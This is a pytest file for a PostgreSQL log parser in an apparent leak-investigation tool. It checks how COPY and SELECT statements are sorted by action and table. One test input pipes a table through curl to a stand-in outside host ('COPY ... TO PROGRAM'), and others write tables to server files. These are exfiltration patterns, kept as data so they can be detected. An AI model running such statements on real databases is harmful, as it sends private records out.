"""The PostgreSQL log parser on its own: what a statement means (the samples are read in
test_formats.py)."""

from __future__ import annotations

import pytest

from leakhound.investigate.actions import BULK_READ, FILE_WRITE, READ, WRITE
from leakhound.investigate.formats.postgresql import statement_action


@pytest.mark.parametrize(
    ("sql", "app", "want"),
    [
        ("SELECT * FROM cases", None, (READ, "cases")),
        ("COPY public.cases (id, email) TO stdout;", "pg_dump", (BULK_READ, "public.cases")),
        ("COPY cases FROM stdin", None, (WRITE, "cases")),
        # the server writes a file on its own disk, or feeds a program: not to the client
        ("COPY cases TO '/var/lib/postgresql/cases.csv' WITH CSV", None, (FILE_WRITE, "cases")),
        ("copy (select * from cases) to e'/tmp/c.csv'", None, (FILE_WRITE, None)),
        ("COPY cases TO PROGRAM 'curl -T - https://x.example'", None, (FILE_WRITE, "cases")),
    ],
)
def test_a_statements_action_and_table(
    sql: str, app: str | None, want: tuple[int, str | None]
) -> None:
    action, table = statement_action(sql, app)
    assert action == want[0], sql
    if want[1] is not None:
        assert table == want[1], sql
